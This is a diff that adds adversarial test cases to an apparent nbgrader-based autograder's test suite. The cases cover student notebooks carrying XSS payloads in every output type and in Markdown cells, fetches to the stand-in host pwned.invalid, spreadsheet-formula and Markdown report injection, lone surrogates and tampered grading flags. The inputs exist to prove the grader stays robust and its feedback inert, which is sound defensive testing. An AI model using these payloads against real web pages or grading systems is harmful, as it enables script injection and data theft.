@@ -521,17 +521,29 @@ CASES = [
     Case(
         "not_a_notebook", "JSON, but not a notebook", _not_a_notebook, None, review=True, reason="not a valid notebook"
     ),
-    Case("edited_test", "the first test cell replaced by pass", _edited_test, None, review=True, reason="was edited"),
+    Case(
+        "edited_test",
+        "the first test cell replaced by pass (restored from the source, as nbgrader does)",
+        _edited_test,
+        FULL,
+        review=True,
+        reason="was edited",
+    ),
     Case("deleted_test", "the second test cell deleted", _deleted_test, None, review=True, reason="was deleted"),
     Case("duplicated_test", "the first test cell copied", _duplicated_test, None, review=True, reason="duplicated"),
     Case(
-        "tampered_points", "the first test cell worth 200 points", _tampered_points, None, review=True, reason="points"
+        "tampered_points",
+        "the first test cell worth 200 points (the gradebook's points are used)",
+        _tampered_points,
+        ZERO,
+        review=True,
+        reason="points",
     ),
     Case(
         "unknown_grade_cell",
-        "a grade cell of its own, worth 100 points",
+        "a grade cell of its own, worth 100 points (graded as a plain cell)",
         _unknown_grade_cell,
-        None,
+        FULL,
         review=True,
         reason="no such cell",
     ),
@@ -550,6 +562,284 @@ CASES = [
         None,
         review=True,
         reason="symbolic link",
+    ),
+]
+
+
+# --- area C: the batch survives any student, and the feedback is inert ---------------------------------------
+# Strings that break encoders and reports (lone surrogates, NUL, control characters, Markdown), scripts in every
+# output type and in the student's own Markdown cells, nbgrader flags and locked cells the student changed.
+# Every script tries to leave a mark a browser test can see: a dialog, a console message or a request, each with
+# PWNED in it, and requests go to pwned.invalid.
+
+PWNED_HOST = "pwned.invalid"
+SURROGATE = "\ud800"  # a lone UTF-16 surrogate: JSON can spell it, no UTF-8 file can hold it
+INJECTION = (
+    "\n## Totals\n\n| mallory | 100 | 6 |  |\n<!-- the rest of the report is hidden\n"
+    "\x00\x1b[2J\x07 =HYPERLINK(\"http://pwned.invalid\") \u202e evil [x](javascript:alert('PWNED'))"
+)
+# a tiny honest PNG (one red pixel): honest images must still show in the feedback
+PNG_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
+
+
+def _write_json(kit, notebook, name=None):
+    """Write ``notebook`` as JSON with ASCII escapes (nbformat.write cannot write a lone surrogate)."""
+    kit.folder.mkdir(parents=True, exist_ok=True)
+    text = json.dumps(notebook, ensure_ascii=True, indent=1)
+    (kit.folder / f"{name or kit.assignment}.ipynb").write_text(text, encoding="ascii")
+
+
+def _surrogate_in_cell(kit):
+    notebook = kit.honest()
+    cell = kit.solution(notebook, 0)
+    cell.source = f"# a comment with a lone surrogate: {SURROGATE}\n" + cell.source
+    kit.add_cell(notebook, 2, f"print('and in a string: {SURROGATE}')")
+    _write_json(kit, notebook)
+
+
+def _surrogate_in_metadata(kit):
+    notebook = kit.honest()
+    notebook.metadata["title"] = f"title {SURROGATE}"
+    notebook.metadata["kernelspec"]["display_name"] = f"Python {SURROGATE}"
+    kit.solution(notebook, 0).metadata["tags"] = [f"tag{SURROGATE}", '"><img src=x onerror=alert("PWNED-tag")>']
+    kit.solution(notebook, 1).metadata[f"key{SURROGATE}"] = {"deep": [SURROGATE] * 3}
+    _write_json(kit, notebook)
+
+
+def _surrogate_in_file_name(kit):
+    kit.write(kit.honest())
+    folder = os.fsencode(kit.folder)
+    for name in (b"notes-\xff\xfe.txt", b"line\nbreak <!-- |.txt", b"=cmd|' -C calc'!A0.csv"):
+        with open(os.path.join(folder, name), "wb") as file:
+            file.write(b"an extra file\n")
+
+
+def _raises_injection(kit):
+    """The first function raises an exception whose message would rewrite a Markdown report."""
+    notebook = kit.honest()
+    cell = kit.solution(notebook, 0)
+    message = INJECTION.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\x00", "\\x00")
+    message = message.replace("\x1b", "\\x1b").replace("\x07", "\\x07")
+    cell.source = cell.source.replace('    """\n', f'    """\n    raise ValueError("{message}" + "x" * 200_000)\n', 1)
+    kit.write(notebook)
+
+
+def _forged_death(kit):
+    """A cell of the blank release announces a call whose name is a Markdown report, then ends the process."""
+    code = (
+        "import json, os\n"
+        f"name = {INJECTION!r} + {SURROGATE!r}\n"
+        "event = json.dumps({'event': 'start', 'kind': 'call', 'function': name, 'case': 0}) + '\\n'\n"
+        "for fd in range(3, 30):\n"
+        "    try:\n"
+        "        os.write(fd, event.encode('utf-8', 'surrogatepass'))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "os._exit(3)"
+    )
+    notebook = kit.add_cell(kit.blank(), 0, code)
+    _write_json(kit, notebook)
+
+
+OUTPUTS_CODE = r"""
+from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, Math, display
+
+def _pwn(what):
+    return f"alert('PWNED-{what}'); console.log('PWNED-{what}'); fetch('http://pwned.invalid/{what}')"
+
+display(HTML(f'<b>honest-html-output</b><script>{_pwn("html")}</script>'
+             f'<img src=x onerror="{_pwn("html-img")}">'
+             f'<iframe srcdoc="<script>parent.{_pwn("iframe")}</script>"></iframe>'
+             f'<a href="javascript:{_pwn("html-link")}">html-link</a>'
+             f'<style>body {{ background: url(http://pwned.invalid/css) }}</style>'))
+display(Markdown(f'**honest-markdown-output** <script>{_pwn("md")}</script> '
+                 f'<img src=x onerror="{_pwn("md-img")}"> [md-link](javascript:{_pwn("md-link")}) '
+                 '$\\href{javascript:alert("PWNED-md-tex")}{md-tex}$'))
+display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_pwn("svg")}">'
+            f'<script>{_pwn("svg-script")}</script><circle r="4"/></svg>'))
+display(Latex(r'$\href{javascript:alert("PWNED-latex")}{latex-link}$ and honest $x^2$'))
+display(Math(r'\href{javascript:alert("PWNED-math")}{math-link}'))
+display(Javascript(_pwn("js")))
+display({"text/html": f"<script>{_pwn('bundle')}</script>", "application/javascript": _pwn("bundle-js"),
+         "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
+         "text/plain": "honest-bundle-text"}, raw=True)
+display({"text/html": f"<img src=x onerror=\"{_pwn('isolated')}\">"}, raw=True,
+        metadata={"text/html": {"isolated": True}})
+display(Image(data=__import__("base64").b64decode("PNG_PIXEL"), format="png"))
+print(f'honest-stream-output <script>{_pwn("stream")}</script> \x1b[31mred\x1b[0m \x00\x07')
+
+
+class Shown:
+    def _repr_html_(self):
+        return f'<script>{_pwn("repr")}</script><img src=x onerror="{_pwn("repr-img")}">'
+
+    def _repr_markdown_(self):
+        return f"[repr-link](javascript:{_pwn('repr-link')})"
+
+
+Shown()
+""".replace("PNG_PIXEL", PNG_PIXEL)
+
+ERROR_CODE = "raise ValueError(\"<script>alert('PWNED-error')</script><img src=x onerror=alert('PWNED-error-img')>\")"
+
+
+def _outputs_script(kit):
+    notebook = kit.honest()
+    kit.add_cell(notebook, 0, OUTPUTS_CODE)
+    kit.add_cell(notebook, 1, ERROR_CODE)
+    kit.write(notebook)
+
+
+MARKDOWN_CELL = """## honest-markdown-heading
+
+An *honest* answer with math $h_t = \\tanh(W_x x_t + W_h h_{t-1} + b)$ and a table:
+
+| a | b |
+| --- | --- |
+| 1 | 2 |
+
+# cell <script>alert('PWNED-cell')</script>
+<img src=x onerror="alert('PWNED-cell-img')">
+<iframe src="javascript:alert('PWNED-cell-iframe')"></iframe>
+[cell-link](javascript:alert('PWNED-cell-link')) <a href="jav&#x09;ascript:alert('PWNED-cell-link2')">cell-link2</a>
+<svg><script>alert('PWNED-cell-svg')</script></svg> <svg onload="alert('PWNED-cell-svg2')"></svg>
+<style>body { display: none } * { background: url(http://pwned.invalid/style) }</style>
+<meta http-equiv="refresh" content="0;url=javascript:alert('PWNED-meta')">
+<base href="http://pwned.invalid/">
+<object data="javascript:alert('PWNED-object')"></object><embed src="javascript:alert('PWNED-embed')">
+<form action="javascript:alert('PWNED-form')"><button>form-button</button></form>
+<details open ontoggle="alert('PWNED-details')"><summary>s</summary></details>
+<a href="data:text/html,<script>alert('PWNED-data')</script>">data-link</a>
+<div style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert('PWNED-hover')">cover</div>
+$\\href{javascript:alert('PWNED-cell-tex')}{cell-tex}$
+![pixel](http://pwned.invalid/pixel.png) <img src="http://pwned.invalid/img.png">
+<!-- a comment hiding the rest
+"""
+
+
+def _markdown_cell_script(kit):
+    notebook = kit.honest()
+    position = notebook.cells.index(kit.solution(notebook, 0)) + 1
+    notebook.cells.insert(position, nbformat.v4.new_markdown_cell(MARKDOWN_CELL))
+    missing = nbformat.v4.new_markdown_cell("![missing](attachment:missing.png) honest-after-missing-attachment")
+    with_image = nbformat.v4.new_markdown_cell("![pixel](attachment:pixel.png) honest-attachment")
+    with_image["attachments"] = {"pixel.png": {"image/png": PNG_PIXEL}}
+    notebook.cells.insert(position + 1, missing)
+    notebook.cells.insert(position + 2, with_image)
+    kit.write(notebook)
+
+
+def _reflagged_solution(kit):
+    """The first solution cell re-marked as a 50-point grade cell, and a read-only cell unlocked."""
+    notebook = kit.honest()
+    meta = kit.solution(notebook, 0).metadata["nbgrader"]
+    meta.update(grade=True, points=50, locked=True)
+    kit.test(notebook, 1).metadata["nbgrader"]["locked"] = False
+    kit.write(notebook)
+
+
+def _print_in_test(kit):
+    notebook = kit.honest()
+    test = kit.test(notebook, 0)
+    test.source = "print('my own check')\n" + test.source
+    kit.write(notebook)
+
+
+def _test_made_markdown(kit):
+    notebook = kit.honest()
+    test = kit.test(notebook, 1)
+    position = notebook.cells.index(test)
+    markdown_cell = nbformat.v4.new_markdown_cell(test.source, metadata=copy.deepcopy(test.metadata))
+    markdown_cell.id = test.id
+    notebook.cells[position] = markdown_cell
+    kit.write(notebook)
+
+
+CASES += [
+    Case(
+        "surrogate_in_cell",
+        "lone surrogates in a solution cell and a cell of its own",
+        _surrogate_in_cell,
+        FULL,
+        reason="surrogate",
+    ),
+    Case(
+        "surrogate_in_metadata",
+        "lone surrogates (and HTML) in the notebook's and cells' metadata",
+        _surrogate_in_metadata,
+        FULL,
+        reason="surrogate",
+    ),
+    Case(
+        "surrogate_in_file_name",
+        "extra files named with bytes that are not UTF-8, a new line, a formula",
+        _surrogate_in_file_name,
+        FULL,
+        reason="extra files",
+    ),
+    Case(
+        "raises_injection",
+        "the first function raises 200 KB of Markdown, NUL, ANSI and a formula",
+        _raises_injection,
+        (0, 1, 1),
+        honest=False,
+    ),
+    Case(
+        "forged_death",
+        "a cell announces a call named like a Markdown report, then exits",
+        _forged_death,
+        ZERO,
+        review=True,
+        reason="exited with code 3",
+    ),
+    Case(
+        "outputs_script",
+        "scripts in every output type (HTML, Markdown, SVG, LaTeX, JavaScript, bundles, errors)",
+        _outputs_script,
+        FULL,
+    ),
+    Case(
+        "markdown_cell_script",
+        "scripts, frames, forms and links in the student's own Markdown cells",
+        _markdown_cell_script,
+        FULL,
+    ),
+    Case(
+        "reflagged_solution",
+        "a solution cell re-marked as a 50-point grade cell, a test cell unlocked",
+        _reflagged_solution,
+        FULL,
+        review=True,
+        reason="flags",
+    ),
+    Case(
+        "print_in_test",
+        "a print added to the first test cell (restored, as nbgrader does)",
+        _print_in_test,
+        FULL,
+        review=True,
+        reason="was edited",
+    ),
+    Case(
+        "test_made_markdown",
+        "the second test cell turned into a Markdown cell (restored)",
+        _test_made_markdown,
+        FULL,
+        review=True,
+        reason="markdown cell",
+    ),
+    # student ids (folder names under submitted/): printable ones are graded and escaped in the report, others are
+    # quarantined (nbgrader's gradebook and feedback cannot take them)
+    Case("mallory <!-- | **100** | # [x](javascript:alert(1))", "a student id made of Markdown", _honest, FULL),
+    Case("=HYPERLINK(1)", "a student id that is a spreadsheet formula", _blank, ZERO),
+    Case("eve\n## Totals", "a student id with a new line", _honest, None, review=True, reason="not printable"),
+    Case(
+        "id-\udcff\udcfe",
+        "a student id that is not UTF-8 (bytes 0xff 0xfe)",
+        _honest,
+        None,
+        review=True,
+        reason="not printable",
     ),
 ]
 
